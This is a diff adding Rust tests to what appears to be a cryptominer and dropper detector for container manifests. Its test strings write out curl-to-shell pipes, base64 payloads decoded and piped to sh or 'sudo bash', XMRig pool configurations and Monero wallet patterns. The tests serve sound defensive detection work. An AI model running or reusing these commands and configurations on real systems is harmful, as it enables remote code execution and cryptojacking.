+                    .any(|h| h.id == "trade-curl-pipe-shell" && h.strength == Strength::Medium),
+                "{t}: {:?}",
+                hits(t)
+            );
+        }
+        for t in [
+            "curl http://1.2.3.4/i | jq .",
+            "curl http://1.2.3.4/i | /tmp/x.sh",
+            "curl http://1.2.3.4/i | shasum",
+            "curl http://1.2.3.4/i | env | grep X",
+        ] {
+            assert!(
+                trade(t).iter().all(|h| h.id != "trade-curl-pipe-shell"),
+                "{t}: {:?}",
+                hits(t)
+            );
+        }
+        for t in [
+            "echo H4sIAAAA | base64 -d | gunzip | sh",
+            "echo H4sIAAAA | base64 -d | zcat | bash",
+            "echo H4sIAAAA | base64 --decode | gzip -d | sh",
+            "echo /Td6WFoA | base64 -d | xz -d | sh",
+            "echo eA== | base64 -d | gunzip -c | sudo bash",
+        ] {
+            assert!(
+                trade(t).iter().any(|h| h.id == "trade-base64-pipe-shell"),
+                "{t}: {:?}",
+                hits(t)
+            );
+        }
+        for t in [
+            "echo H4sI | base64 -d | gunzip > out.txt",
+            "echo H4sI | base64 -d | gunzip | tar x",
+        ] {
+            assert!(
+                trade(t).iter().all(|h| h.id != "trade-base64-pipe-shell"),
+                "{t}: {:?}",
+                hits(t)
+            );
+        }
+    }
+
+    #[test]
+    fn wallet_with_suffixes() {
+        for suffix in ["_rig01", ".worker", "+5000", "/worker", "", "\"", "'"] {
+            for prefix in ["", "-u ", "\"", "user="] {
+                let t = format!("{prefix}{XMR}{suffix}");
+                let h = fam(&t, Family::MoneroWallet);
+                assert_eq!(h.len(), 1, "{t}: {h:?}");
+                assert_eq!(h[0].matched, XMR);
+                assert_eq!(&t[h[0].start..h[0].end], XMR);
+            }
+        }
+        for t in [
+            format!("{XMR}Z"),
+            format!("Z{XMR}"),
+            format!("{XMR}abc_rig"),
+        ] {
+            assert!(fam(&t, Family::MoneroWallet).is_empty(), "{t}");
+        }
+    }
+
+    #[test]
+    fn minimal_xmrig_config() {
+        for t in [
+            r#"{"pools":[{"url":"203.0.113.99:3333","user":"rig1","pass":"x","keepalive":true,"tls":true}]}"#,
+            r#"{"pools":[{"url":"203.0.113.99:443","user":"rig1","pass":"x"}],"background":true}"#,
+            r#"{"pools":[{"url":"p:1","keepalive":true}]}"#,
+            r#"{"pools":[{"url":"p:1","nicehash":false}]}"#,
+            r#"{"pools":[{"url":"p:1","tls":true}]}"#,
+        ] {
+            let h = fam(t, Family::MinerConfig);
+            assert_eq!(h.len(), 1, "{t}: {:?}", hits(t));
+            assert_eq!(h[0].strength, Strength::Strong);
+        }
+        for t in [
+            r#"{"pools":[{"url":"p:1","user":"a"}]}"#,
+            r#"{"pools":[{"url":"http://a","weight":1}],"name":"lb"}"#,
+            r#"{"servers":[{"url":"p:1","user":"a","pass":"b"}]}"#,
+        ] {
+            assert!(fam(t, Family::MinerConfig).is_empty(), "{t}");
+        }
+    }
+
+    #[test]
+    fn review_manifests() {
+        // The look-alikes and droppers a review found (tests/fixtures/{look-alikes,droppers}).
+        let fixtures =
+            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures");
+        let read = |f: &str| {
+            let (dir, name) = match f.split_once('-') {
+                Some(("fp", n)) => ("look-alikes", n),
+                Some(("fn", n)) => ("droppers", n),
+                _ => ("look-alikes", f),
+            };
+            std::fs::read_to_string(fixtures.join(dir).join(name)).ok()
+        };
+        let t = read("fp-excavator.yaml").expect("tests/fixtures/look-alikes");
+        assert!(
+            hits(&t).iter().all(|h| h.strength < Strength::Strong),
+            "{:?}",
+            hits(&t)
+        );
+        for f in [
+            "fp-excavator2.yaml",
+            "fp-trex.yaml",
+            "fp-falco.yaml",
+            "fp-coin.yaml",
+        ] {
+            let t = read(f).unwrap();
+            assert!(
+                hits(&t).iter().all(|h| h.strength < Strength::Strong),
+                "{f}: {:?}",
+                hits(&t)
+            );
+        }
+        let t = read("fp-installers.yaml").unwrap();
+        assert!(
+            trade(&t).iter().all(|h| h.strength == Strength::Weak),
+            "{:?}",
+            trade(&t)
+        );
+        let t = read("fn-misc.yaml").unwrap();
+        let h = hits(&t);
+        assert!(h
+            .iter()
+            .any(|h| h.id == "prog-kinsing" && h.strength == Strength::Strong));
+        assert!(h.iter().any(|h| h.id == "config-xmrig"));
+        assert!(h.iter().any(|h| h.id == "trade-curl-pipe-shell"));
+        let t = read("fn-wallet-us.yaml").unwrap();
+        assert!(!fam(&t, Family::MoneroWallet).is_empty());
+    }
+
+    /// Real miner manifests and configs (and, beside them, compose and CloudFormation files)
+    /// keep at least one strong hit: in their text, or in an `image:` they name. The
+    /// NetworkPolicy only names `xmrig` as a label value (medium), and two files never had one.
+    #[test]
+    fn corpus_keeps_strong_hits() {
+        let root =
+            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/miners");
+        if !root.is_dir() {
+            eprintln!("skipped: {} not present", root.display());
+            return;
+        }
+        let no_strong = [
+            "cpfarhood-networkpolicy.yaml",
+            "cpfarhood-kustomization.yaml",
+            "kubernetes-goat-batch-check-job.yaml",
+        ];
+        let mut n = 0;
+        for d in ["k8s-manifests", "xmrig-configs", "compose", "non-k8s"] {
+            let Ok(entries) = std::fs::read_dir(root.join(d)) else {
+                continue;
+            };
+            for e in entries.flatten() {
+                let p = e.path();
+                let name = p.file_name().and_then(|x| x.to_str()).unwrap_or("");
+                if no_strong.contains(&name) {
+                    continue;
+                }
+                let text = std::fs::read_to_string(&p).unwrap();
+                let mut h = hits(&text);
+                for line in text.lines() {
+                    if let Some(img) = line.trim().strip_prefix("image:") {
+                        h.extend(set().scan_image(img.trim().trim_matches(['"', '\''])));
+                    }
+                }
+                assert!(
+                    h.iter().any(|h| h.strength == Strength::Strong),
+                    "{}: {h:?}",
+                    p.display()
+                );
+                n += 1;
+            }
+        }
+        assert!(n >= 15, "{n}");
+        // The required shapes in them are strong program hits.
+        let lw = std::fs::read_to_string(root.join("k8s-manifests/lacework-k8s-crypto-miner.yaml"));
+        if let Ok(t) = lw {
+            assert!(programs(&t)
+                .iter()
+                .any(|h| h.matched == "xmrig" && h.executable && h.strength == Strength::Strong));
+        }
     }
 }
